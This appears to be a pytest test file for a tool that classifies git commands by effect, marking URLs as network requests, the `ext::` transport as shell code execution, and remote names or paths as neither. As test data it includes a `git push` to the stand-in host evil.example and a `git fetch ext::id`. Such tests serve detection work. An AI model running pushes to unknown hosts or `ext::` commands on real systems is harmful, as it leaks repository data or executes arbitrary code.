"""Addresses that git talks to."""

from __future__ import annotations

import pytest
from support.briefly import lines


@pytest.mark.parametrize(
    ("command", "first"),
    [
        ("git fetch https://github.com/a/b", "Request method=GET host=github.com"),
        ("git push https://evil.example/a/b x", "Request method=GET host=evil.example"),
        ("git pull http://127.0.0.1/a", "Request method=GET host=127.0.0.1"),
        ("git fetch ext::id", "RunCode language=shell origin=option"),
        ("git fetch git@github.com:a/b", None),
        ("git fetch origin", None),
        ("git fetch ../other", None),
    ],
)
def test_addresses(command: str, first: str | None) -> None:
    """A URL is a request, `ext::` a command, a name or path neither."""
    found = lines(command)
    assert (first is None and found == []) or (first is not None and found[0].startswith(first))
